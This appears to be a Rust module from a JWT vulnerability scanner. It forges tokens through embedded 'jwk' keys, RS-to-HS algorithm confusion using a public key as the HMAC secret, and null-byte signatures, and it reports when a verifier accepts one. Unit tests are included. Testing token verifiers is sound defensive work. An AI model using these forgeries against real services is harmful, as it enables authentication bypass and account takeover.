// Signature forgeries
//
// 1. Embedded key: sign with a fresh key pair and ship its public half as
//    the header's "jwk", for verifiers that trust whatever key the token names.
// 2. Algorithm confusion: RS* token re-signed as HS* with a known RSA public
//    key (DER bytes) as the HMAC secret.
// 3. Null byte signatures.

use async_trait::async_trait;
use serde_json::Value;
use std::sync::Arc;
use tracing::{debug, info, warn};

use super::{AttackHelper, JwtAttack, NULL_BYTE_MARKER};
use crate::context::AttackContext;
use crate::error::{CryptoError, ProbeError};
use crate::keys::{hmac_sign, ForgeryKey, HmacAlgorithm, KeySpec};
use crate::keystore::KeyStore;
use crate::messages::SIGNATURE_PREFIX;
use crate::models::{Confidence, Risk, VulnerabilityType};
use crate::token::{AlgorithmFamily, TokenModel};

pub struct SignatureAttack {
    helper: Arc<AttackHelper>,
    keystore: Option<Arc<dyn KeyStore>>,
}

/// Re-sign `token` with a newly generated key of shape `spec`, embedding the
/// public key as `jwk` in the otherwise unchanged header.
pub fn forge_with_embedded_key(token: &TokenModel, spec: &KeySpec) -> Result<TokenModel, CryptoError> {
    sign_with_embedded_key(token, &spec.generate()?)
}

/// Same as `forge_with_embedded_key` with a key generated earlier
pub fn sign_with_embedded_key(token: &TokenModel, key: &ForgeryKey) -> Result<TokenModel, CryptoError> {
    let mut header = token
        .header_json()
        .map_err(|e| CryptoError::UnsupportedAlgorithm(e.to_string()))?;
    header.insert("jwk".to_string(), key.public_jwk()?);

    let mut forged = token.clone();
    forged.with_header(Value::Object(header).to_string());
    let signature = key.sign(forged.signing_input().as_bytes())?;
    forged.with_signature(signature);
    Ok(forged)
}

/// Rewrite `alg` to the HMAC variant and sign with `key` as the secret
pub fn forge_algorithm_confusion(
    token: &TokenModel,
    alg: HmacAlgorithm,
    key: &[u8],
) -> Result<TokenModel, CryptoError> {
    let mut header = token
        .header_json()
        .map_err(|e| CryptoError::UnsupportedAlgorithm(e.to_string()))?;
    header.insert("alg".to_string(), Value::String(alg.name().to_string()));

    let mut forged = token.clone();
    forged.with_header(Value::Object(header).to_string());
    let signature = hmac_sign(alg, key, forged.signing_input().as_bytes())?;
    forged.with_signature(signature);
    Ok(forged)
}

/// (a) original signature bytes followed by the null byte marker,
/// (b) a signature consisting of a single zero byte
pub fn null_byte_signatures(token: &TokenModel) -> Vec<TokenModel> {
    let mut extended = token.signature().to_vec();
    extended.extend_from_slice(NULL_BYTE_MARKER.as_bytes());

    let mut trailing = token.clone();
    trailing.with_signature(extended);
    let mut zeroed = token.clone();
    zeroed.with_signature(vec![0u8]);
    vec![trailing, zeroed]
}

impl SignatureAttack {
    pub fn new(helper: Arc<AttackHelper>, keystore: Option<Arc<dyn KeyStore>>) -> Self {
        Self { helper, keystore }
    }

    async fn confirm(
        &self,
        forged: &TokenModel,
        vulnerability: VulnerabilityType,
        ctx: &AttackContext,
        detail: String,
    ) -> Result<bool, ProbeError> {
        let candidate = forged.encode();
        if !self.helper.verify_token(&candidate, ctx).await? {
            return Ok(false);
        }
        self.helper.raise_alert(
            SIGNATURE_PREFIX,
            vulnerability,
            Risk::High,
            Confidence::High,
            &candidate,
            ctx,
            Some(detail),
        );
        Ok(true)
    }

    pub async fn execute_custom_private_key(&self, ctx: &AttackContext) -> Result<bool, ProbeError> {
        let Some(alg) = ctx.token.algorithm() else {
            return Ok(false);
        };
        for spec in KeySpec::for_algorithm(&alg) {
            if ctx.is_stopped() {
                return Ok(false);
            }
            let token = ctx.token.clone();
            let task_spec = spec.clone();
            let forged = tokio::task::spawn_blocking(move || forge_with_embedded_key(&token, &task_spec))
                .await
                .map_err(|e| CryptoError::Task(e.to_string()))
                .and_then(|r| r);
            let forged = match forged {
                Ok(forged) => forged,
                Err(e) => {
                    warn!("[JWT] {} key generation failed: {}", alg, e);
                    continue;
                }
            };
            let detail = match spec.curve_name() {
                Some(curve) => format!("Token signed with an attacker key ({} on {}) embedded as jwk", alg, curve),
                None => format!("Token signed with an attacker key ({}) embedded as jwk", alg),
            };
            if self.confirm(&forged, VulnerabilityType::CustomPrivateKey, ctx, detail).await? {
                return Ok(true);
            }
        }
        Ok(false)
    }

    pub async fn execute_algorithm_confusion(&self, ctx: &AttackContext) -> Result<bool, ProbeError> {
        if ctx.token.family() != AlgorithmFamily::Rsa {
            return Ok(false);
        }
        let Some(hmac_alg) = ctx.token.algorithm().as_deref().and_then(HmacAlgorithm::confused_with) else {
            return Ok(false);
        };
        let Some(keystore) = &self.keystore else {
            info!("[JWT] no trust store configured, skipping algorithm confusion");
            return Ok(false);
        };

        for alias in keystore.aliases() {
            if ctx.is_stopped() {
                return Ok(false);
            }
            let der = match keystore.public_key_der(&alias) {
                Ok(der) => der,
                Err(e) => {
                    warn!("[JWT] skipping key {}: {}", alias, e);
                    continue;
                }
            };
            let forged = match forge_algorithm_confusion(&ctx.token, hmac_alg, &der) {
                Ok(forged) => forged,
                Err(e) => {
                    warn!("[JWT] confusion signing with {} failed: {}", alias, e);
                    continue;
                }
            };
            let detail = format!("{} token accepted with the public key \"{}\" as HMAC secret", hmac_alg.name(), alias);
            if self.confirm(&forged, VulnerabilityType::AlgorithmConfusion, ctx, detail).await? {
                return Ok(true);
            }
        }
        Ok(false)
    }

    pub async fn execute_null_byte(&self, ctx: &AttackContext) -> Result<bool, ProbeError> {
        let details = ["Null byte appended to the signature", "Signature replaced by a single null byte"];
        for (forged, detail) in null_byte_signatures(&ctx.token).iter().zip(details) {
            if ctx.is_stopped() {
                return Ok(false);
            }
            if self
                .confirm(forged, VulnerabilityType::NullByte, ctx, detail.to_string())
                .await?
            {
                return Ok(true);
            }
        }
        Ok(false)
    }
}

fn settle(technique: &str, result: Result<bool, ProbeError>) -> bool {
    match result {
        Ok(found) => found,
        Err(e) => {
            warn!("[JWT] {} aborted: {}", technique, e);
            false
        }
    }
}

#[async_trait]
impl JwtAttack for SignatureAttack {
    fn name(&self) -> &'static str {
        "signature"
    }

    async fn execute_attack(&self, ctx: &AttackContext) -> bool {
        if settle("custom key forgery", self.execute_custom_private_key(ctx).await) {
            return true;
        }
        if ctx.is_stopped() {
            return false;
        }
        if settle("algorithm confusion", self.execute_algorithm_confusion(ctx).await) {
            return true;
        }
        if ctx.is_stopped() {
            return false;
        }
        debug!("[JWT] trying null byte signatures");
        settle("null byte signature", self.execute_null_byte(ctx).await)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::testing::{self, ScriptedProbe};
    use crate::keystore::MemoryKeyStore;

    // {"alg":"RS256","typ":"JWT"}.{"sub":"alice"}
    const RS256_TOKEN: &str = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSJ9.c2ln";
    const HS256_TOKEN: &str = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2ln";

    #[test]
    fn null_byte_signature_shapes() {
        let token = TokenModel::parse(RS256_TOKEN).unwrap();
        let forged = null_byte_signatures(&token);
        assert_eq!(forged[0].signature(), [b"sig".as_slice(), NULL_BYTE_MARKER.as_bytes()].concat());
        assert_eq!(forged[1].signature(), &[0u8]);
        assert!(forged[1].encode().ends_with(".AA"));
    }

    #[test]
    fn confusion_rewrites_alg_and_signs_with_key() {
        let token = TokenModel::parse(RS256_TOKEN).unwrap();
        let forged = forge_algorithm_confusion(&token, HmacAlgorithm::HS256, b"public-key-der").unwrap();
        assert_eq!(forged.algorithm().as_deref(), Some("HS256"));
        assert_eq!(forged.header_json().unwrap()["typ"], "JWT");
        let expected = hmac_sign(HmacAlgorithm::HS256, b"public-key-der", forged.signing_input().as_bytes()).unwrap();
        assert_eq!(forged.signature(), expected.as_slice());
    }

    #[test]
    fn embedded_key_header_keeps_original_claims() {
        let token = TokenModel::parse(RS256_TOKEN).unwrap();
        let spec = KeySpec::for_algorithm("RS256").remove(0);
        let forged = forge_with_embedded_key(&token, &spec).unwrap();
        let header = forged.header_json().unwrap();
        assert_eq!(header["alg"], "RS256");
        assert_eq!(header["jwk"]["kty"], "RSA");
        assert_eq!(forged.payload(), token.payload());
        assert_eq!(forged.signature().len(), 256);
    }

    #[tokio::test]
    async fn confusion_skipped_without_keystore() {
        let probe = ScriptedProbe::new(|_| Ok(true));
        let (helper, sink) = testing::helper(probe.clone());
        let ctx = testing::context(RS256_TOKEN);

        let attack = SignatureAttack::new(helper, None);
        assert!(!attack.execute_algorithm_confusion(&ctx).await.unwrap());
        assert!(probe.seen().is_empty());
        assert!(sink.is_empty());
    }

    #[tokio::test]
    async fn confusion_only_for_rsa_tokens() {
        let probe = ScriptedProbe::new(|_| Ok(true));
        let (helper, _) = testing::helper(probe.clone());
        let mut store = MemoryKeyStore::new();
        store.insert("server", b"der".to_vec());
        let ctx = testing::context(HS256_TOKEN);

        let attack = SignatureAttack::new(helper, Some(Arc::new(store)));
        assert!(!attack.execute_algorithm_confusion(&ctx).await.unwrap());
        assert!(probe.seen().is_empty());
    }

    #[tokio::test]
    async fn confusion_tries_each_alias() {
        let probe = ScriptedProbe::new(|c| {
            let token = TokenModel::parse(c).unwrap();
            Ok(token.signature()
                == hmac_sign(HmacAlgorithm::HS256, b"second", token.signing_input().as_bytes())
                    .unwrap()
                    .as_slice())
        });
        let (helper, sink) = testing::helper(probe.clone());
        let mut store = MemoryKeyStore::new();
        store.insert("a-first", b"first".to_vec());
        store.insert("b-second", b"second".to_vec());
        let ctx = testing::context(RS256_TOKEN);

        let attack = SignatureAttack::new(helper, Some(Arc::new(store)));
        assert!(attack.execute_algorithm_confusion(&ctx).await.unwrap());
        assert_eq!(probe.seen().len(), 2);
        let finding = &sink.findings()[0];
        assert_eq!(finding.vulnerability, VulnerabilityType::AlgorithmConfusion);
        assert!(finding.other_info.as_deref().unwrap().contains("b-second"));
    }

    #[tokio::test]
    async fn hmac_token_falls_through_to_null_byte() {
        // HS256 has no key specs and no confusion: only the two null byte forgeries go out
        let probe = ScriptedProbe::new(|c| Ok(c.ends_with(".AA")));
        let (helper, sink) = testing::helper(probe.clone());
        let ctx = testing::context(HS256_TOKEN);

        assert!(SignatureAttack::new(helper, None).execute_attack(&ctx).await);
        assert_eq!(probe.seen().len(), 2);
        assert_eq!(sink.findings()[0].vulnerability, VulnerabilityType::NullByte);
    }
}
